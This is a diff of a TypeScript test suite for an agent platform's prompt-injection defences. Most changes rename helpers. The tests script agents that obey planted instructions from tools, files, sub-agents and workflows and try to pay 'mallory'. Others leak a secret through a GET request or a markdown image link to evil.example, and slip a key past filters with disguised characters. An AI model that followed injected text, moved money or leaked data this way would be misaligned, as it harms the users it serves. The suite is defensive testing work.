@@ -11,20 +11,20 @@ import { eventually, testDatabase } from '../../support/database.ts';
 import { startTestWorker } from '../../support/worker.ts';
 import {
   type AgentSpec,
-  calling,
+  callTools,
   childrenOf,
   type Execution,
-  ended,
   insertRun,
   makeAgent,
   makeAgentTool,
   messagesOf,
-  reaches,
   resultsOf,
   runToEnd,
   stepsOf,
+  waitForEnd,
+  waitForStatus,
 } from '../arrange.ts';
-import { expectEqual } from '../replay/replay-runs.ts';
+import { expectEqualReplay } from '../replay/replay-runs.ts';
 import { makeTeam, startTeam } from '../teams.ts';
 
 // Models in this file follow every instruction that they read. The tests assert which actions the
@@ -94,8 +94,8 @@ function tool(name: string, effect: 'pure' | 'once', run: (args: JsonObject) => 
   return { name, description: name, parameters: { type: 'object' }, effect, run } as const;
 }
 
-const strict = () => database.pool.query(`select howdah.use_tool_policies('strict')`);
-const pay = calling({ name: 'send_money', arguments: { to: 'mallory' } });
+const useStrictPolicies = () => database.pool.query(`select howdah.use_tool_policies('strict')`);
+const pay = callTools({ name: 'send_money', arguments: { to: 'mallory' } });
 const done = { content: 'done' };
 const make = (spec: AgentSpec) => makeAgent(database.pool, spec);
 
@@ -113,12 +113,15 @@ async function questionsOf(id: string): Promise<JsonObject[]> {
  * Runs an agent that reads a text and makes these calls. Returns the run once it has ended or waits
  * for a person.
  */
-async function obeying(spec: AgentSpec, columns: { session_id?: string } = {}): Promise<Execution> {
+async function runObeying(
+  spec: AgentSpec,
+  columns: { session_id?: string } = {},
+): Promise<Execution> {
   const id = await insertRun(database.pool, await make(spec), 'Read it.', columns);
-  return settled(id);
+  return waitForEndOrQuestion(id);
 }
 
-function settled(id: string): Promise<Execution> {
+function waitForEndOrQuestion(id: string): Promise<Execution> {
   return eventually<Execution>(
     database.pool,
     `run ${id} has ended or waits`,
@@ -141,7 +144,7 @@ async function expectApproval(run: Execution, reason: JsonObject = {}): Promise<
   ]);
 }
 
-const read = (name: string, args: JsonObject = {}) => calling({ name, arguments: args });
+const read = (name: string, args: JsonObject = {}) => callTools({ name, arguments: args });
 
 async function sessionOf(agent: string): Promise<string> {
   const { rows } = await database.pool.query(
@@ -162,23 +165,23 @@ describe('untrusted sources', () => {
     ['a custom tool', () => read('read_feed'), 'read_feed'],
   ];
   test.each(carriers)('%s: a once-only call requires approval', async (_, call, name) => {
-    await strict();
-    const run = await obeying({ script: [call(), pay, done], tools: [name, 'send_money'] });
+    await useStrictPolicies();
+    const run = await runObeying({ script: [call(), pay, done], tools: [name, 'send_money'] });
     await expectApproval(run, { tool: name, message_seq: 3 });
     expect(await trustOf(run.id)).toBe('external');
     await database.pool.query(
       'select howdah.approve(id) from howdah.questions where execution_id = $1',
       [run.id],
     );
-    await ended(database.pool, run.id);
+    await waitForEnd(database.pool, run.id);
     expect(sent).toHaveLength(1);
-    await expectEqual(database.pool, run.id);
+    await expectEqualReplay(database.pool, run.id);
   });
 
   test('a search of the vendor, also for the calls of the same answer', async () => {
-    await strict();
+    await useStrictPolicies();
     const parts = [{ type: 'citation', url: 'https://news.example/1' }];
-    const run = await obeying({ script: [{ ...pay, parts }, done], tools: ['send_money'] });
+    const run = await runObeying({ script: [{ ...pay, parts }, done], tools: ['send_money'] });
     await expectApproval(run, { tool: null, message_seq: 2 });
     expect(await trustOf(run.id)).toBe('external');
     const { rows } = await database.pool.query(
@@ -190,26 +193,26 @@ describe('untrusted sources', () => {
       'select howdah.approve(id) from howdah.questions where execution_id = $1',
       [run.id],
     );
-    await ended(database.pool, run.id);
-    await expectEqual(database.pool, run.id);
+    await waitForEnd(database.pool, run.id);
+    await expectEqualReplay(database.pool, run.id);
   });
 
   test('a search of the vendor whose sources a filter withholds', async () => {
-    await strict();
+    await useStrictPolicies();
     await database.pool.query(
       `insert into howdah.output_filters (name, pattern, places) values ('news', 'news.example', '{output}')`,
     );
     const parts = [{ type: 'citation', url: 'https://news.example/1' }];
     const reasoning = [{ type: 'reasoning', text: 'It is 2.' }];
     const script = [{ ...pay, parts }, done];
-    const run = await obeying({ script, tools: ['send_money'] });
+    const run = await runObeying({ script, tools: ['send_money'] });
     await expectApproval(run);
-    const plain = await obeying({ script: [{ ...done, parts: reasoning }] });
+    const plain = await runObeying({ script: [{ ...done, parts: reasoning }] });
     expect(await trustOf(plain.id)).toBe('user');
   });
 
   test('the result of an MCP server', async () => {
-    await strict();
+    await useStrictPolicies();
     const agent = await make({
       script: [read('notes__echo', { text: EVIL }), pay, done],
       tools: ['send_money'],
@@ -218,7 +221,7 @@ describe('untrusted sources', () => {
       `insert into howdah.agent_servers (agent_id, server_id, allowed_tools) select $1, id, '{echo}' from howdah.mcp_servers`,
       [agent],
     );
-    const run = await settled(await insertRun(database.pool, agent));
+    const run = await waitForEndOrQuestion(await insertRun(database.pool, agent));
     await expectApproval(run, { tool: 'notes__echo' });
     const { rows } = await database.pool.query(
       `select tool, server, trust from howdah.message_sources where execution_id = $1 and kind = 'tool'`,
@@ -228,7 +231,7 @@ describe('untrusted sources', () => {
   });
 
   test('a stored file', async () => {
-    await strict();
+    await useStrictPolicies();
     const agent = await make({
       script: [read('read_resource', { name: 'letter.txt' }), pay, done],
       tools: ['read_resource', 'send_money'],
@@ -239,12 +242,12 @@ describe('untrusted sources', () => {
       [Buffer.from(EVIL), session_id],
     );
     await expectApproval(
-      await settled(await insertRun(database.pool, agent, 'Read.', { session_id })),
+      await waitForEndOrQuestion(await insertRun(database.pool, agent, 'Read.', { session_id })),
     );
   });
 
   test('a file in the message itself', async () => {
-    await strict();
+    await useStrictPolicies();
     const agent = await make({ script: [pay, done], tools: ['send_money'] });
     const { rows } = await database.pool.query(
       `with file as (insert into howdah.resources (name, type, bytes) values ('a.txt', 'text/plain', 'x') returning id)
@@ -252,21 +255,21 @@ describe('untrusted sources', () => {
        select $1, 'Read.', jsonb_build_array(jsonb_build_object('type', 'resource', 'resource_id', id)) from file returning id`,
       [agent],
     );
-    await expectApproval(await settled(rows[0].id), { message_seq: 1 });
+    await expectApproval(await waitForEndOrQuestion(rows[0].id), { message_seq: 1 });
   });
 
   test("another person's text as the input", async () => {
-    await strict();
+    await useStrictPolicies();
     const agent = await make({ script: [pay, done], tools: ['send_money'] });
     const { rows } = await database.pool.query(
       `insert into howdah.executions (agent_id, input, input_trust) values ($1, $2, 'external') returning id`,
       [agent, EVIL],
     );
-    await expectApproval(await settled(rows[0].id), { message_seq: 1 });
+    await expectApproval(await waitForEndOrQuestion(rows[0].id), { message_seq: 1 });
   });
 
   test("a sub-agent's answer, and the message to a sub-agent", async () => {
-    await strict();
+    await useStrictPolicies();
     const reader = await makeAgentTool(
       database.pool,
       await make({ script: [read('read_feed'), { content: EVIL }], tools: ['read_feed'] }),
@@ -275,12 +278,12 @@ describe('untrusted sources', () => {
       database.pool,
       await make({ script: [pay, done], tools: ['send_money'] }),
     );
-    const above = await obeying({
+    const above = await runObeying({
       script: [read(reader, { message: 'Read it.' }), pay, done],
       tools: [reader, 'send_money'],
     });
     await expectApproval(above, { tool: reader });
-    const below = await obeying({
+    const below = await runObeying({
       script: [read('read_feed'), read(payer, { message: EVIL }), done],
       tools: [payer, 'read_feed'],
     });
@@ -294,7 +297,7 @@ describe('untrusted sources', () => {
   });
 
   test('an earlier turn of the conversation', async () => {
-    await strict();
+    await useStrictPolicies();
     const agent = await make({ script: [read('read_feed'), done], tools: ['read_feed'] });
     const session_id = await sessionOf(agent);
     await runToEnd(database.pool, agent, 'Read.', { session_id });
@@ -307,11 +310,11 @@ describe('untrusted sources', () => {
       'select id from howdah.executions where session_id = $1 and turn = 2',
       [session_id],
     );
-    await expectApproval(await settled(turns[0].id), { message_seq: null });
+    await expectApproval(await waitForEndOrQuestion(turns[0].id), { message_seq: null });
   });
 
   test('an earlier member of a workflow, and rows that a workflow processes', async () => {
-    await strict();
+    await useStrictPolicies();
     const reader = await make({
       script: [read('read_feed'), { content: EVIL }],
       tools: ['read_feed'],
@@ -322,7 +325,7 @@ describe('untrusted sources', () => {
       members: [{ agent: reader }, { agent: payer }],
     });
     const first = await startTeam(database.pool, chain, 'Read it.');
-    await expectApproval(await settled(first), { message_seq: 1 });
+    await expectApproval(await waitForEndOrQuestion(first), { message_seq: 1 });
     await database.pool.query(
       `update howdah.tools set configuration = configuration || '{"schemas": ["shop"]}' where name = 'sql_query'`,
     );
@@ -331,22 +334,22 @@ describe('untrusted sources', () => {
       members: [{ agent: payer }],
       configuration: { query: 'select body from shop.reviews' },
     });
-    await expectApproval(await settled(await startTeam(database.pool, map, 'Pay.')), {
+    await expectApproval(await waitForEndOrQuestion(await startTeam(database.pool, map, 'Pay.')), {
       message_seq: 1,
     });
   });
 
   test('the calls of one answer are judged by what was read before it', async () => {
-    await strict();
-    const both = calling({ name: 'read_feed' }, { name: 'send_money', arguments: { to: 'bo' } });
-    const run = await obeying({ script: [both, pay, done], tools: ['read_feed', 'send_money'] });
+    await useStrictPolicies();
+    const both = callTools({ name: 'read_feed' }, { name: 'send_money', arguments: { to: 'bo' } });
+    const run = await runObeying({ script: [both, pay, done], tools: ['read_feed', 'send_money'] });
     expect(sent).toEqual([{ to: 'bo' }]);
     sent.length = 0;
     await expectApproval(run, { tool: 'read_feed' });
   });
 
   test("a sub-agent's earlier conversation, where it keeps one", async () => {
-    await strict();
+    await useStrictPolicies();
     const keeper = await make({
       script: [read('read_feed'), done, pay, done],
       tools: ['read_feed', 'send_money'],
@@ -356,7 +359,7 @@ describe('untrusted sources', () => {
       `update howdah.tools set configuration = '{"ephemeral": false}' where name = $1`,
       [ask],
     );
-    const run = await obeying({
+    const run = await runObeying({
       script: [read(ask, { message: 'Read.' }), read(ask, { message: 'Pay.' }), done],
       tools: [ask],
     });
@@ -364,26 +367,28 @@ describe('untrusted sources', () => {
   });
 
   test('a message of another agent, and its entries on the board', async () => {
-    await strict();
+    await useStrictPolicies();
     const name = `payer_${randomBytes(4).toString('hex')}`;
     const payer = await make({
       script: [read('receive', { wait_seconds: 30 }), pay, done],
       tools: ['receive', 'send_money'],
     });
     await database.pool.query('update howdah.agents set name = $2 where id = $1', [payer, name]);
-    await obeying({
+    await runObeying({
       script: [read('read_feed'), read('send_message', { to: name, message: EVIL }), done],
       tools: ['read_feed', 'send_message'],
     });
-    await expectApproval(await settled(await insertRun(database.pool, payer)), { tool: 'receive' });
+    await expectApproval(await waitForEndOrQuestion(await insertRun(database.pool, payer)), {
+      tool: 'receive',
+    });
   });
 });
 
 describe('the goal of an attack', () => {
   test('to send data out by a GET: requires approval, and no request is made', async () => {
-    await strict();
+    await useStrictPolicies();
     visited.length = 0;
-    const run = await obeying({
+    const run = await runObeying({
       script: [read('read_feed'), read('http_request', { url: `${url}?secret=1234` }), done],
       tools: ['read_feed', 'http_request'],
     });
@@ -392,7 +397,7 @@ describe('the goal of an attack', () => {
   });
 
   test('to call an MCP server', async () => {
-    await strict();
+    await useStrictPolicies();
     const agent = await make({
       script: [read('read_feed'), read('notes__echo', { text: 'the secrets' }), done],
       tools: ['read_feed'],
@@ -401,14 +406,14 @@ describe('the goal of an attack', () => {
       `insert into howdah.agent_servers (agent_id, server_id, allowed_tools) select $1, id, '{echo}' from howdah.mcp_servers`,
       [agent],
     );
-    await expectApproval(await settled(await insertRun(database.pool, agent)));
+    await expectApproval(await waitForEndOrQuestion(await insertRun(database.pool, agent)));
   });
 
   test('to show a link with data in it: a filter redacts it', async () => {
     await database.pool.query(
       `insert into howdah.output_filters (name, pattern) values ('foreign_images', '!\\[[^]]*\\]\\(https?://[^)]*\\)')`,
     );
-    const run = await obeying({
+    const run = await runObeying({
       script: [read('read_feed'), { content: 'Here: ![x](https://evil.example/?q=1234) done' }],
       tools: ['read_feed'],
     });
@@ -426,7 +431,7 @@ describe('the goal of an attack', () => {
       },
     });
     expect(JSON.stringify([steps, await messagesOf(database.pool, run.id)])).not.toContain('1234');
-    await expectEqual(database.pool, run.id);
+    await expectEqualReplay(database.pool, run.id);
   });
 });
 
@@ -440,7 +445,7 @@ describe('a file that another model reads', () => {
    * Runs an agent that extracts values from the letter and follows its instruction. `values_trust`
    * is set by an admin.
    */
-  async function reading(script: JsonObject[], values_trust?: string): Promise<Execution> {
+  async function runReader(script: JsonObject[], values_trust?: string): Promise<Execution> {
     const agent = await make({ script, tools: ['extract', 'read_resource', 'send_money'] });
     await database.pool.query(
       `insert into howdah.models (name, provider, model) values ('reader', 'scripted', 'reader') on conflict do nothing`,
@@ -457,12 +462,12 @@ describe('a file that another model reads', () => {
       `insert into howdah.resources (name, type, bytes, session_id) values ('letter.txt', 'text/plain', $1, $2)`,
       [Buffer.from(EVIL), session_id],
     );
-    return settled(await insertRun(database.pool, agent, 'Read.', { session_id }));
+    return waitForEndOrQuestion(await insertRun(database.pool, agent, 'Read.', { session_id }));
   }
 
   test('returns only values of the schema, which lower the trust all the same', async () => {
-    await strict();
-    const run = await reading([extract, pay, done]);
+    await useStrictPolicies();
+    const run = await runReader([extract, pay, done]);
     await expectApproval(run, { tool: 'extract' });
     const [result] = await resultsOf(database.pool, run.id);
     expect(JSON.parse(result ?? '')).toEqual({
@@ -479,13 +484,13 @@ describe('a file that another model reads', () => {
       'select howdah.reject(id) from howdah.questions where execution_id = $1',
       [run.id],
     );
-    await ended(database.pool, run.id);
-    await expectEqual(database.pool, run.id);
+    await waitForEnd(database.pool, run.id);
+    await expectEqualReplay(database.pool, run.id);
   });
 
   test('lowers no trust where an admin trusts its values, until its text is read', async () => {
-    await strict();
-    const free = await reading([extract, pay, done], 'internal');
+    await useStrictPolicies();
+    const free = await runReader([extract, pay, done], 'internal');
     expect(free).toMatchObject({ status: 'completed' });
     const { rows } = await database.pool.query(
       `select trust from howdah.message_sources where execution_id = $1 and tool = 'extract'`,
@@ -495,19 +500,19 @@ describe('a file that another model reads', () => {
     expect(sent).toHaveLength(1);
     sent.length = 0;
     const text = read('read_resource', { name: 'payee-1.txt' });
-    await expectApproval(await reading([extract, text, pay, done], 'internal'), {
+    await expectApproval(await runReader([extract, text, pay, done], 'internal'), {
       tool: 'read_resource',
     });
   });
 
   test('is read by an existing model', async () => {
-    const run = await reading([extract, done]);
+    const run = await runReader([extract, done]);
     expect(run).toMatchObject({ status: 'completed' });
     const agent = await make({
       script: [read('extract', { resource: 'nothing.txt', schema }), done],
       tools: ['extract'],
     });
-    const other = await settled(await insertRun(database.pool, agent));
+    const other = await waitForEndOrQuestion(await insertRun(database.pool, agent));
     expect((await resultsOf(database.pool, other.id))[0]).toMatch(/nothing\.txt/);
     await expect(
       database.pool.query(
@@ -519,7 +524,7 @@ describe('a file that another model reads', () => {
 
 describe('policies', () => {
   test('none configured: nothing requires approval', async () => {
-    const run = await obeying({
+    const run = await runObeying({
       script: [read('read_feed'), pay, done],
       tools: ['read_feed', 'send_money'],
     });
@@ -528,7 +533,7 @@ describe('policies', () => {
   });
 
   test('strict does not affect a run that has read nothing from outside', async () => {
-    await strict();
+    await useStrictPolicies();
     const script = [
       read('rates'),
       read('now'),
@@ -555,7 +560,7 @@ describe('policies', () => {
       'board_write',
     ];
     tools.push('board_read', 'discover_agents', 'search_messages', 'send_money');
-    const run = await obeying({ script, tools });
+    const run = await runObeying({ script, tools });
     expect(run).toMatchObject({ status: 'completed', output: 'done' });
     const { rows } = await database.pool.query(
       `select tool, trust from howdah.message_sources where execution_id = $1 and kind = 'tool' order by seq`,
@@ -582,7 +587,7 @@ describe('policies', () => {
     await database.pool.query(
       `insert into howdah.tool_policies (tool_id, decision) select id, 'deny' from howdah.tools where name = 'send_money'`,
     );
-    const run = await obeying({
+    const run = await runObeying({
       script: [read('read_feed'), pay, done],
       tools: ['read_feed', 'send_money'],
     });
@@ -610,15 +615,15 @@ describe('policies', () => {
     const agent = await make({
       script: [
         read('read_feed'),
-        calling({ name: 'ask_user', arguments: { question: 'Go on?' } }),
+        callTools({ name: 'ask_user', arguments: { question: 'Go on?' } }),
         pay,
         done,
       ],
       tools: ['read_feed', 'send_money', 'ask_user'],
     });
     const id = await insertRun(database.pool, agent);
-    await reaches(database.pool, id, 'waiting');
-    await strict();
+    await waitForStatus(database.pool, id, 'waiting');
+    await useStrictPolicies();
     const [question] = await questionsOf(id);
     await database.pool.query(`select howdah.answer_question($1, 'yes')`, [question?.id]);
     await eventually(
@@ -640,7 +645,7 @@ describe('policies', () => {
       `update howdah.tools set requires_approval = true where name = 'send_money'`,
     );
     try {
-      await strict();
+      await useStrictPolicies();
       const agent = await make({
         script: [pay, read('read_feed'), pay, pay, done],
         tools: ['read_feed', 'send_money'],
@@ -660,7 +665,7 @@ describe('policies', () => {
       const second = await approvalOf(2);
       expect(second.reason).toMatchObject({ policy: 'ask', trust: 'external' });
       await database.pool.query(`select howdah.approve($1, 'agent')`, [second.id]);
-      await ended(database.pool, id);
+      await waitForEnd(database.pool, id);
       expect(sent).toHaveLength(3);
       expect(await questionsOf(id)).toHaveLength(2);
     } finally {
@@ -672,11 +677,11 @@ describe('policies', () => {
   });
 
   test('the more specific policy decides', async () => {
-    await strict();
+    await useStrictPolicies();
     await database.pool.query(
       `insert into howdah.tool_policies (tool_id, min_trust, decision) select id, 'system', 'allow' from howdah.tools where name = 'send_money'`,
     );
-    const run = await obeying({
+    const run = await runObeying({
       script: [read('read_feed'), pay, done],
       tools: ['read_feed', 'send_money'],
     });
@@ -685,7 +690,7 @@ describe('policies', () => {
   });
 
   test('a fork has the trust of its own log only', async () => {
-    const run = await obeying({
+    const run = await runObeying({
       script: [read('rates'), read('read_feed'), done],
       tools: ['rates', 'read_feed'],
     });
@@ -730,7 +735,7 @@ describe('filters', () => {
 
   test('a blocked answer is requested once more', async () => {
     await filter({ action: 'block' });
-    const run = await obeying({
+    const run = await runObeying({
       script: [{ content: 'It is canary-abcdefgh1' }, { content: 'I may not say.' }],
     });
     expect(run).toMatchObject({ status: 'completed', output: 'I may not say.' });
@@ -744,7 +749,7 @@ describe('filters', () => {
 
   test('an answer blocked twice fails the run, and none of it is written', async () => {
     await filter({ action: 'block' });
-    const run = await obeying({
+    const run = await runObeying({
       script: [{ content: 'canary-abcdefgh1' }, { content: 'canary-abcdefgh2' }],
     });
     expect(run).toMatchObject({
@@ -757,13 +762,13 @@ describe('filters', () => {
       await messagesOf(database.pool, run.id),
     ]);
     expect(log).not.toContain('canary-abc');
-    await expectEqual(database.pool, run.id);
+    await expectEqualReplay(database.pool, run.id);
   });
 
   test('outgoing arguments are redacted or rejected, whatever their shape', async () => {
     await filter({ action: 'redact' });
     visited.length = 0;
-    const run = await obeying({
+    const run = await runObeying({
       script: [read('http_request', { url: `${url}?q=canary-abcdefgh1` }), done],
       tools: ['http_request'],
     });
@@ -772,7 +777,7 @@ describe('filters', () => {
     await database.pool.query('delete from howdah.output_filters');
     await filter({ action: 'block' });
     const nested = { list: [{ 'canary-abcdefgh1': 1 }] };
-    const other = await obeying({
+    const other = await runObeying({
       script: [read('send_money', nested), done],
       tools: ['send_money'],
     });
@@ -830,28 +835,28 @@ describe('filters', () => {
       JSON.stringify((await database.pool.query({ text: left, rowMode: 'array' })).rows);
     await filter({ action: 'block' });
     const before = await leftBehind();
-    const refused = await obeying({ script: [read(name, args), done], tools: [name] });
+    const refused = await runObeying({ script: [read(name, args), done], tools: [name] });
     expect(await leftBehind()).toBe(before);
     expect(refused).toMatchObject({ status: 'completed' });
     expect((await resultsOf(database.pool, refused.id))[0]).toMatch(
       /output filter key does not let it out/,
     );
     await database.pool.query(`update howdah.output_filters set action = 'redact'`);
-    const cleaned = await obeying({ script: [read(name, args), done], tools: [name] });
+    const cleaned = await runObeying({ script: [read(name, args), done], tools: [name] });
     expect(await leftBehind()).not.toContain(CANARY);
     const step = (await stepsOf(database.pool, cleaned.id)).find(({ kind }) => kind === 'tool');
     expect(JSON.stringify(step?.input)).toContain('[key withheld]');
     expect(await guardsOf(cleaned.id)).toEqual([
       { place, hits: [{ filter: 'key', action: 'redact', matches: 1 }] },
     ]);
-    await expectEqual(database.pool, refused.id);
-    await expectEqual(database.pool, cleaned.id);
+    await expectEqualReplay(database.pool, refused.id);
+    await expectEqualReplay(database.pool, cleaned.id);
   });
 
   test('a filter with named places applies only there', async () => {
     await filter({ action: 'block', places: '{output}' });
     const args = { key: 'elsewhere', value: CANARY };
-    const run = await obeying({
+    const run = await runObeying({
       script: [read('board_write', args), done],
       tools: ['board_write'],
     });
@@ -861,17 +866,17 @@ describe('filters', () => {
   test('the message to a sub-agent is filtered', async () => {
     await filter({ action: 'redact' });
     const ask = await makeAgentTool(database.pool, await make({ script: [done] }));
-    const run = await obeying({ script: [read(ask, { message: CANARY }), done], tools: [ask] });
+    const run = await runObeying({ script: [read(ask, { message: CANARY }), done], tools: [ask] });
     expect(run).toMatchObject({ status: 'completed' });
     const children = await childrenOf(database.pool, run.id);
     expect(children).toMatchObject([{ input: '[key withheld]' }]);
-    await expectEqual(database.pool, run.id);
+    await expectEqualReplay(database.pool, run.id);
   });
 
   test('text files written by programs are filtered, binary files are not', async () => {
     await filter({ action: 'redact' });
     const code = `files.write('a.txt', '${CANARY}'); files.write('b.bin', new Uint8Array([255, 0])); 1`;
-    const run = await obeying({
+    const run = await runObeying({
       script: [read('run_code', { language: 'javascript', code }), done],
       tools: ['run_code'],
     });
@@ -885,9 +890,9 @@ describe('filters', () => {
       { name: 'b.bin', content: '\\377\\000' },
     ]);
     expect(await guardsOf(run.id)).toMatchObject([{ place: 'file' }]);
-    await expectEqual(database.pool, run.id);
+    await expectEqualReplay(database.pool, run.id);
     await database.pool.query(`update howdah.output_filters set action = 'block'`);
-    const refused = await obeying({
+    const refused = await runObeying({
       script: [read('run_code', { language: 'javascript', code }), done],
       tools: ['run_code'],
     });
@@ -905,7 +910,7 @@ describe('filters', () => {
     );
     const note = read('note_down', { body: `ask ${CANARY}` });
     await filter({ action: 'redact' });
-    const run = await obeying({ script: [note, done], tools: ['note_down'] });
+    const run = await runObeying({ script: [note, done], tools: ['note_down'] });
     const [question] = await questionsOf(run.id);
     expect(JSON.stringify(question)).not.toContain(CANARY);
     expect(question).toMatchObject({
@@ -913,18 +918,18 @@ describe('filters', () => {
       tool_call: { arguments: { body: 'ask [key withheld]' } },
     });
     await database.pool.query('select howdah.approve($1)', [question?.id]);
-    await ended(database.pool, run.id);
+    await waitForEnd(database.pool, run.id);
     expect(await questionsOf(run.id)).toHaveLength(1);
     const { rows } = await database.pool.query(
       `select body from shop.notes where body like 'ask%'`,
     );
     expect(rows).toEqual([{ body: 'ask [key withheld]' }]);
-    await expectEqual(database.pool, run.id);
+    await expectEqualReplay(database.pool, run.id);
     await database.pool.query(`update howdah.output_filters set action = 'block'`);
-    const refused = await obeying({ script: [note, done], tools: ['note_down'] });
+    const refused = await runObeying({ script: [note, done], tools: ['note_down'] });
     expect(refused).toMatchObject({ status: 'completed' });
     expect(await questionsOf(refused.id)).toEqual([]);
-    await expectEqual(database.pool, refused.id);
+    await expectEqualReplay(database.pool, refused.id);
     await database.pool.query(
       `update howdah.tools set requires_approval = false where name = 'note_down'`,
     );
@@ -953,26 +958,26 @@ describe('filters', () => {
 
   test('an answer with a hidden match is redacted', async () => {
     await filter({ action: 'redact' });
-    const run = await obeying({ script: [{ content: 'It is сan\u200bary-ａbcdefgh1.' }] });
+    const run = await runObeying({ script: [{ content: 'It is сan\u200bary-ａbcdefgh1.' }] });
     expect(run).toMatchObject({ status: 'completed', output: 'It is [key withheld].' });
   });
 
   test('a question to people is redacted', async () => {
     await filter({ action: 'redact' });
-    const ask = calling({
+    const ask = callTools({
       name: 'ask_user',
       arguments: { question: 'Is canary-abcdefgh1 yours?' },
     });
-    const run = await obeying({ script: [ask, done], tools: ['ask_user'] });
+    const run = await runObeying({ script: [ask, done], tools: ['ask_user'] });
     const questions = await questionsOf(run.id);
     expect(questions).toMatchObject([{ prompt: 'Is [key withheld] yours?' }]);
     expect(JSON.stringify(questions)).not.toContain(CANARY);
-    await expectEqual(database.pool, run.id);
+    await expectEqualReplay(database.pool, run.id);
   });
 
   test('flag changes nothing and records the match', async () => {
     await filter({ action: 'flag' });
-    const run = await obeying({ script: [{ content: 'canary-abcdefgh1' }] });
+    const run = await runObeying({ script: [{ content: 'canary-abcdefgh1' }] });
     expect(run).toMatchObject({ status: 'completed', output: 'canary-abcdefgh1' });
     expect((await stepsOf(database.pool, run.id)).at(-2)).toMatchObject({
       kind: 'guard',
@@ -986,7 +991,7 @@ describe('filters', () => {
 
   test('a pattern with catastrophic backtracking terminates', async () => {
     await filter({ action: 'block', pattern: '^(a+)+$' });
-    const run = await obeying({ script: [{ content: `${'a'.repeat(50_000)}b` }] });
+    const run = await runObeying({ script: [{ content: `${'a'.repeat(50_000)}b` }] });
     expect(run).toMatchObject({ status: 'completed' });
   });
 });
